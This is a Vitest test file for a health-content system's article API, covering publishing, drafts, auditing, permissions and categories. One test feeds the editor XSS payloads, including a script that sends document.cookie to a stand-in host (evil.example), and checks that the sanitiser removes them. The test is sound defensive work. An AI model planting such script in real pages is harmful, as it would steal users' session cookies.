import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../testing/harness.js';
import { loginStaff } from '../../testing/staff.js';
import { loginPatient } from '../../testing/patients.js';

let t: TestApp;
let operator: string;
let finance: string;
let categoryId: string;
beforeAll(async () => {
  t = await createTestApp();
  operator = (await loginStaff(t, 'operator')).token;
  finance = (await loginStaff(t, 'finance')).token;
  const cats = (await t.api.get('/api/v1/admin/article-categories', { token: operator })).body.items;
  categoryId = cats.find((c: any) => c.kind === 'education').id;
});
afterAll(async () => t.close());

const count = async (sql: string, params: unknown[] = []) =>
  Number((await t.database.raw.query<{ n: number }>(sql, params)).rows[0].n);

describe('patients reading published articles', () => {
  it('lists published articles newest first, by kind, and searches titles', async () => {
    const all = await t.api.get('/api/v1/articles?pageSize=100');
    expect(all.status).toBe(200);
    expect(all.body.total).toBeGreaterThanOrEqual(20);
    expect(all.body.items.every((a: any) => a.status === 'published' && a.body === undefined)).toBe(true);
    const dates = all.body.items.map((a: any) => a.publishedAt);
    expect([...dates].sort().reverse()).toEqual(dates);

    for (const kind of ['announcement', 'guide', 'education', 'knowledge', 'encyclopedia', 'news']) {
      const res = await t.api.get(`/api/v1/articles?category=${kind}`);
      expect(res.body.total, kind).toBeGreaterThan(0);
      expect(res.body.items.every((a: any) => a.category.kind === kind)).toBe(true);
    }
    const found = await t.api.get(`/api/v1/articles?q=${encodeURIComponent('胰岛素')}`);
    expect(found.body.items.map((a: any) => a.title)).toContain('糖尿病患者如何正确使用胰岛素');

    const one = await t.api.get(`/api/v1/articles/${all.body.items[0].id}`);
    expect(one.status).toBe(200);
    expect(one.body.body).toContain('<p>');
  });

  it('never sees a draft, in the list or by id', async () => {
    const { rows } = await t.database.raw.query<{ id: string; title: string }>(
      "SELECT id, title FROM articles WHERE status = 'draft'",
    );
    expect(rows.length).toBeGreaterThan(0);
    const list = await t.api.get('/api/v1/articles?pageSize=100');
    expect(list.body.items.map((a: any) => a.id)).not.toContain(rows[0].id);
    const res = await t.api.get(`/api/v1/articles/${rows[0].id}`);
    expect(res.status).toBe(404);
    expect(res.body.code).toBe('ARTICLE_NOT_FOUND');
    const { token } = await loginPatient(t, '13900004444');
    expect((await t.api.get(`/api/v1/articles/${rows[0].id}`, { token })).status).toBe(404);
  });
});

describe('an editor writing, publishing and withdrawing an article', () => {
  it('creates a sanitised draft, publishes it once, unpublishes and deletes it, all audited', async () => {
    const created = await t.api.post('/api/v1/admin/articles', {
      token: operator,
      body: {
        categoryId,
        title: '  流感季如何保护老人和孩子  ',
        body:
          '<h2>接种疫苗</h2><p style="color: red; position: fixed">每年秋季接种流感疫苗。</p>' +
          '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
          '<img src="/uploads/flu.png" onerror="alert(1)" alt="流感">' +
          '<a href="javascript:alert(1)">点我</a><a href="https://www.who.int" target="_blank">WHO</a>' +
          '<iframe src="https://evil.example"></iframe>',
        source: 'reprint',
        sourceName: '健康报',
      },
    });
    expect(created.status).toBe(201);
    const a = created.body;
    expect(a).toMatchObject({ status: 'draft', publishedAt: null, title: '流感季如何保护老人和孩子' });
    expect(a.body).toBe(
      '<h2>接种疫苗</h2><p style="color: red">每年秋季接种流感疫苗。</p>' +
        '<img src="/uploads/flu.png" alt="流感">' +
        '<a>点我</a><a href="https://www.who.int" target="_blank" rel="noopener noreferrer">WHO</a>',
    );
    expect(a.summary).toBe('接种疫苗 每年秋季接种流感疫苗。 点我 WHO');
    expect((await t.api.get(`/api/v1/articles/${a.id}`)).status).toBe(404);

    t.clock.advance(5 * 60_000);
    const published = await t.api.post(`/api/v1/admin/articles/${a.id}/publish`, { token: operator });
    expect(published.status).toBe(200);
    expect(published.body.publishedAt).toBe(t.clock.now().toISOString());
    const twice = await t.api.post(`/api/v1/admin/articles/${a.id}/publish`, { token: operator });
    expect(twice.status).toBe(409);
    expect(twice.body.code).toBe('ARTICLE_ALREADY_PUBLISHED');
    const read = await t.api.get(`/api/v1/articles/${a.id}`);
    expect(read.status).toBe(200);
    expect(read.body.body).not.toContain('script');

    const edited = await t.api.patch(`/api/v1/admin/articles/${a.id}`, {
      token: operator,
      body: { body: '<p onmouseover="x()">更新后的内容</p>' },
    });
    expect(edited.body.body).toBe('<p>更新后的内容</p>');

    expect(
      (await t.api.post(`/api/v1/admin/articles/${a.id}/unpublish`, { token: operator })).body.status,
    ).toBe('draft');
    expect((await t.api.get(`/api/v1/articles/${a.id}`)).status).toBe(404);
    expect(
      (await t.api.post(`/api/v1/admin/articles/${a.id}/unpublish`, { token: operator })).body.code,
    ).toBe('ARTICLE_NOT_PUBLISHED');
    expect((await t.api.delete(`/api/v1/admin/articles/${a.id}`, { token: operator })).status).toBe(204);
    expect(await count('SELECT count(*)::int AS n FROM articles WHERE id = $1', [a.id])).toBe(0);

    const actions = (
      await t.database.raw.query<{ action: string }>(
        'SELECT action FROM audit_log WHERE object_id = $1 ORDER BY id',
        [a.id],
      )
    ).rows.map((r) => r.action);
    expect(actions).toEqual([
      'content.article.create',
      'content.article.publish',
      'content.article.update',
      'content.article.unpublish',
      'content.article.delete',
    ]);
  });

  it('refuses an empty title, an unknown category and a permissionless role, writing nothing', async () => {
    const before = await count('SELECT count(*)::int AS n FROM articles');
    const empty = await t.api.post('/api/v1/admin/articles', {
      token: operator,
      body: { categoryId, title: '   ' },
    });
    expect(empty.status).toBe(400);
    expect(empty.body.code).toBe('ARTICLE_TITLE_REQUIRED');
    expect(empty.body.message).toEqual({ zh: '请填写文章标题', en: 'article title is required' });
    const unknown = await t.api.post('/api/v1/admin/articles', {
      token: operator,
      body: { categoryId: 'nope', title: '标题' },
    });
    expect(unknown.body.code).toBe('ARTICLE_CATEGORY_UNKNOWN');
    const extra = await t.api.post('/api/v1/admin/articles', {
      token: operator,
      body: { categoryId, title: '标题', status: 'published' },
    });
    expect(extra.body.code).toBe('VALIDATION_FAILED');
    const denied = await t.api.post('/api/v1/admin/articles', {
      token: finance,
      body: { categoryId, title: '标题' },
    });
    expect(denied.status).toBe(403);
    expect(await count('SELECT count(*)::int AS n FROM articles')).toBe(before);
  });
});

describe('article categories', () => {
  it('adds a category, and disabling it hides its articles from patients', async () => {
    const cat = await t.api.post('/api/v1/admin/article-categories', {
      token: operator,
      body: { kind: 'news', name: '优惠政策' },
    });
    expect(cat.status).toBe(201);
    const dup = await t.api.post('/api/v1/admin/article-categories', {
      token: operator,
      body: { kind: 'news', name: '优惠政策' },
    });
    expect(dup.body.code).toBe('ARTICLE_CATEGORY_NAME_TAKEN');
    const art = await t.api.post('/api/v1/admin/articles', {
      token: operator,
      body: {
        categoryId: cat.body.id,
        title: '老年人挂号费减免政策',
        body: '<p>65岁以上老人普通门诊诊查费减半。</p>',
      },
    });
    await t.api.post(`/api/v1/admin/articles/${art.body.id}/publish`, { token: operator });
    expect((await t.api.get(`/api/v1/articles?category=${cat.body.id}`)).body.total).toBe(1);

    await t.api.patch(`/api/v1/admin/article-categories/${cat.body.id}`, {
      token: operator,
      body: { enabled: false },
    });
    expect((await t.api.get(`/api/v1/articles/${art.body.id}`)).status).toBe(404);
    expect((await t.api.get('/api/v1/article-categories')).body.items.map((c: any) => c.id)).not.toContain(
      cat.body.id,
    );
    const inUse = await t.api.delete(`/api/v1/admin/article-categories/${cat.body.id}`, { token: operator });
    expect(inUse.status).toBe(409);
    expect(inUse.body.code).toBe('ARTICLE_CATEGORY_IN_USE');
  });
});
